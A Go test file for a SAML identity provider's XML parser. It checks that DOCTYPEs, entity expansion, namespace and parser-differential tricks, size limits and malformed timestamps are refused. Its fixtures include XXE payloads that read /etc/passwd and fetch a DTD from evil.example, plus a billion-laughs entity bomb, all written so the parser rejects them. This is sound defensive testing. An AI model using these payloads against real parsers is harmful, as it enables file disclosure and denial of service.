package wire_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"gatehouse/idp/saml/wire"
)

func TestSA09DoctypeIsRefusedAtItsToken(t *testing.T) {
	t.Parallel()
	// A parser that expands it writes three thousand million octets.
	laughs := `<!DOCTYPE lolz [<!ENTITY l0 "lol">`
	for i := range 9 {
		laughs += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	laughs += `]><a>&l9;</a>`
	for name, text := range map[string]string{
		"bare":              `<!DOCTYPE a><a/>`,
		"after declaration": `<?xml version="1.0"?><!DOCTYPE a><a/>`,
		"internal entity":   `<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`,
		"external entity":   `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
		"parameter entity":  `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>`,
		"billion laughs":    laughs,
		"inside the root":   `<a><!DOCTYPE b><b/></a>`,
		"undefined entity":  `<a>&x;</a>`,
	} {
		start := time.Now()
		_, err := wire.Parse([]byte(text + strings.Repeat(" ", 100_000)))
		wantKind(t, err, wire.ErrMalformed)
		if took := time.Since(start); took > 5*time.Second { // less than a millisecond, on an idle machine
			t.Errorf("%s took %s", name, took)
		}
	}
}

func TestSA11ParserDifferentialsAreRefused(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"leading colon element":        `<:a/>`,
		"trailing colon element":       `<a:/>`,
		"two colons":                   `<a:b:c xmlns:a="x"/>`,
		"leading colon attribute":      `<a :b="c"/>`,
		"two colons in attribute":      `<a xmlns:b="x" b:c:d="e"/>`,
		"duplicate attribute":          `<a ID="1" ID="2"/>`,
		"duplicate by two prefixes":    `<a xmlns:p="x" xmlns:q="x" p:ID="1" q:ID="2"/>`,
		"undeclared element prefix":    `<p:a/>`,
		"undeclared attribute prefix":  `<a p:b="c"/>`,
		"prefix of a sibling":          `<a><b xmlns:p="x"/><p:c/></a>`,
		"xmlns redeclared":             `<a xmlns:xmlns="x"/>`,
		"xml redeclared":               `<a xmlns:xml="x"/>`,
		"prefix bound to xml":          `<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>`,
		"default bound to xmlns":       `<a xmlns="http://www.w3.org/2000/xmlns/"/>`,
		"prefix undeclared by empty":   `<a xmlns:p=""/>`,
		"directive with comment":       `<!x<!-- -->y><a/>`,
		"directive":                    `<a><!ELEMENT b></a>`,
		"processing instruction":       `<a><?p x?></a>`,
		"second declaration":           `<?xml version="1.0"?><?xml version="1.0"?><a/>`,
		"encoding":                     `<?xml version="1.0" encoding="ISO-8859-1"?><a/>`,
		"UTF-7":                        `<?xml version="1.0" encoding="UTF-7"?><a/>`,
		"invalid UTF-8":                "<a>\xff</a>",
		"control character":            "<a>\x01</a>",
		"text before":                  `x<a/>`,
		"text after":                   `<a/>x`,
		"two roots":                    `<a/><b/>`,
		"no root":                      ` `,
		"empty":                        ``,
		"open":                         `<a>`,
		"crossed":                      `<a><b></a></b>`,
		"closed twice":                 `<a/></a>`,
		"other prefix at the end":      `<p:a xmlns:p="x" xmlns:q="x"></q:a>`,
		"unquoted attribute":           `<a b=c/>`,
		"comment":                      `<a><!-- --></a>`,
		"closes before it is unclosed": `</a><a>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := wire.Parse([]byte(text))
			wantKind(t, err, wire.ErrMalformed)
		})
	}
}

func TestSA12ShapeLimits(t *testing.T) {
	t.Parallel()
	var attributes strings.Builder
	for i := range 100_000 {
		attributes.WriteString(" a")
		attributes.WriteString(strings.Repeat("b", i%7+1))
		attributes.WriteString(`="c"`)
	}
	for name, text := range map[string]string{
		"100,000 nested elements":   strings.Repeat("<a>", 100_000),
		"nested within the size":    strings.Repeat("<a>", 30_000) + strings.Repeat("</a>", 30_000),
		"100,000 attributes":        "<a" + attributes.String() + "/>",
		"attributes within size":    "<a" + strings.Repeat(` a="b"`, 20_000) + "/>",
		"1 MB attribute":            `<a b="` + strings.Repeat("c", 1<<20) + `"/>`,
		"60,000 siblings":           "<a>" + strings.Repeat("<b/>", 60_000) + "</a>",
		"over the limit by one":     "<a>" + strings.Repeat("b", wire.MaxMessage-6) + "</a>",
		"100,000 processing tokens": strings.Repeat("<?a?>", 50_000) + "<a/>",
	} {
		if _, err := wire.Parse([]byte(text)); err == nil {
			t.Errorf("%s was accepted", name)
		}
	}
	if _, err := wire.Parse([]byte("<a>" + strings.Repeat("b", wire.MaxMessage-7) + "</a>")); err != nil {
		t.Errorf("a document of exactly the limit: %v", err)
	}
}

func TestParseTakesWhatPeersSend(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"byte order mark":       "\ufeff<a/>",
		"declaration":           `<?xml version="1.0" encoding="UTF-8"?>` + "\n<a/>\n",
		"default namespace":     `<Response xmlns="urn:oasis:names:tc:SAML:2.0:protocol"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">x</Issuer></Response>`,
		"default undone":        `<a xmlns="x"><b xmlns=""/></a>`,
		"prefix rebound below":  `<p:a xmlns:p="x"><p:b xmlns:p="y"/></p:a>`,
		"same name, two spaces": `<a xmlns:p="x" xmlns:q="y" p:b="1" q:b="2" b="3"/>`,
		"character references":  `<a b="&#x41;&amp;">&#65;&lt;</a>`,
	} {
		if _, err := wire.Parse([]byte(text)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestSA18Times(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "2026-11-22T10:00:00", "2026-11-22", "9999-12-31T23:59:59Z", "1999-12-31T23:59:59Z", "2200-01-01T00:00:00Z",
		"2026-11-22T10:00:00." + strings.Repeat("1", 40) + "Z", "2026-11-22T10:00:00,5Z", "2026-11-22T10:00:00.Z",
		"2026-11-22T10:00:00+0000", "2026-13-22T10:00:00Z", "2026-11-22T25:00:00Z", "2026-11-22 10:00:00Z", " 2026-11-22T10:00:00Z",
		"-2026-11-22T10:00:00Z", "12026-11-22T10:00:00Z", "2026-11-22T10:00:00z", "2026-11-22T10:00:00+99:00", "2026-11-22T1:00:00Z0",
	} {
		if got, err := wire.ParseTime(text); err == nil {
			t.Errorf("%q was read as %s", text, got)
		}
	}
	want := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	for _, text := range []string{"2026-11-22T10:00:00Z", "2026-11-22T10:00:00.000Z", "2026-11-22T10:00:00.000000000Z", "2026-11-22T12:00:00+02:00"} {
		if got, err := wire.ParseTime(text); err != nil || !got.Equal(want) || got.Location() != time.UTC {
			t.Errorf("%q: got %s, %v", text, got, err)
		}
	}
	if got, err := wire.ParseTime(wire.FormatTime(want)); err != nil || !got.Equal(want) {
		t.Errorf("round trip: %s, %v", got, err)
	}
}

func TestNewIDIsAnXMLIDAndNeverTheSame(t *testing.T) {
	t.Parallel()
	a, b := wire.NewID(), wire.NewID()
	if a == b || len(a) != 41 || a[0] != '_' {
		t.Fatalf("got %s and %s", a, b)
	}
}
